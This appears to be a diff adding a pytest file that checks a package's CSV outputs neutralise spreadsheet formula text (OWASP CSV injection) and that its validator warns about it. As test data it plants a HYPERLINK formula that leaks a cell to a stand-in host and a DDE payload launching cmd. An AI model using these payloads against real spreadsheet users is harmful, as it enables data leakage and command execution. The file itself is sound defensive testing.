@@ -1,0 +1,82 @@
+"""Result CSVs: text that a spreadsheet would run as a formula is neutralised in every CSV the workbook
+writes (OWASP CSV injection), numbers stay numbers, and `validate` warns about such names."""
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from conftest import small_season_tables, write_season
+from paritrana_nb.cli import main
+from paritrana_nb.outputs import csv_safe, starts_like_formula, table_csv_text
+from paritrana_nb.season import load_season
+
+HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"Klik")'
+DDE = "+cmd|' /C calc'!A0"
+AT = "@SUM(1+1)"
+JUROR = "=J1+1"
+
+
+def _planted(data_dir: Path) -> Path:
+    """The small season with a regency, a village, a business and a juror named like formulas."""
+    tables = small_season_tables()
+    wilayah = tables["wilayah"]
+    wilayah.loc[wilayah["kode_wilayah"] == "61.71", "nama"] = HYPERLINK
+    tables["desa"].loc[1, "nama"] = DDE
+    tables["badan_usaha"].loc[0, "nama"] = AT
+    tables["wawancara"]["juri"] = tables["wawancara"]["juri"].replace("J1", JUROR)
+    return write_season(data_dir, tables)
+
+
+def _cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+def assert_no_formula(path: Path, planted: tuple[str, ...]) -> None:
+    """No cell of `path` would run as a formula; each planted text is there, neutralised."""
+    cells = _cells(path)
+    assert not [c for c in cells if starts_like_formula(c)], path.name
+    for text in planted:
+        assert "'" + text in cells, (path.name, text)
+        assert text not in cells
+
+
+@pytest.mark.parametrize(("text", "written"), [
+    (HYPERLINK, "'" + HYPERLINK), (DDE, "'" + DDE), (AT, "'" + AT), ("-2+3", "'-2+3"), ("\tx", "'\tx"),
+    ("\r=1", "'\r=1"), ("-inf", "'-inf"), ("Kabupaten Ketapang", "Kabupaten Ketapang"), ("-3.5", "-3.5"),
+    ("+12", "+12"), ("1e-5", "1e-5"), ("", ""), (-3.5, -3.5), (None, None),
+])
+def test_csv_safe_neutralises_formula_text_only(text: object, written: object) -> None:
+    assert csv_safe(text) == written
+
+
+def test_numbers_stay_numbers_in_the_csv() -> None:
+    table = pd.DataFrame({"nama": [HYPERLINK, "-3.5"], "nilai": [-3.5, 2.0], "jumlah": [-4, 5]})
+    text = table_csv_text(table)
+    assert text.splitlines()[1:] == ['"\'=HYPERLINK(""http://x/?d=""&A2,""Klik"")",-3.5,-4', "-3.5,2.0,5"]
+
+
+@pytest.mark.parametrize(("command", "planted"), [
+    ("score", (HYPERLINK, DDE, AT)),
+    ("gaps", (HYPERLINK, DDE, AT)),
+    ("jury", (JUROR,)),
+])
+def test_every_csv_command_neutralises_formulas(command: str, planted: tuple[str, ...], tmp_path: Path) -> None:
+    _planted(tmp_path / "data")
+    out = tmp_path / f"{command}.csv"
+    assert main([command, "--data-dir", str(tmp_path / "data"), "--out", str(out)]) == 0
+    assert_no_formula(out, planted)
+
+
+def test_validate_warns_about_formula_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    _planted(tmp_path)
+    report = load_season(2025, tmp_path).report
+    assert report.ok
+    found = {(p.file, p.row, p.column, p.value) for p in report.warnings if p.code == "W_FORMULA_TEXT"}
+    assert {("wilayah.csv", 5, "nama", HYPERLINK), ("desa.csv", 3, "nama", DDE),
+            ("badan_usaha.csv", 2, "nama", AT), ("wawancara.csv", 2, "juri", JUROR)} <= found
+    assert main(["validate", "--data-dir", str(tmp_path), "--lang", "en"]) == 0
+    assert "Excel would run it as a formula" in capsys.readouterr().out
